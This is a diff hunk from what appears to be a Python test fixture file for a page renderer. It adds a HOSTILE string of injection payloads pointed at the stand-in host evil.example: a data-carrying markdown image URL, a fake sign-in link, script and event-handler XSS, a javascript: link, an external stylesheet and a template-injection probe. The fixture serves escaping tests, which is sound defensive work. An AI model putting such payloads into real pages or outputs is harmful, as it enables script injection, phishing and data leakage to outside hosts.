@@ -52,6 +52,15 @@ TEXT = (
 )
 QUOTE = "Up to five unused days may be carried over until 31 March 🌿."
 
+# text that would lead elsewhere if it were taken for anything but text
+HOSTILE = (
+    "![map](https://evil.example/a.png?leave=5) [Sign in](https://evil.example/b) "
+    "<img src='https://evil.example/c.png' onerror='alert(1)'> "
+    '<a href="javascript:alert(2)">here</a> https://evil.example/d //evil.example/e '
+    "</span><script src=https://evil.example/f.js></script>"
+    '" onmouseover="alert(3) <link rel=stylesheet href=//evil.example/g.css> {{ 7 * 191 }}'
+)
+
 
 def page_of(text: str, number: int = 1) -> Page:
     """A page whose lines are its blocks, the first a heading."""
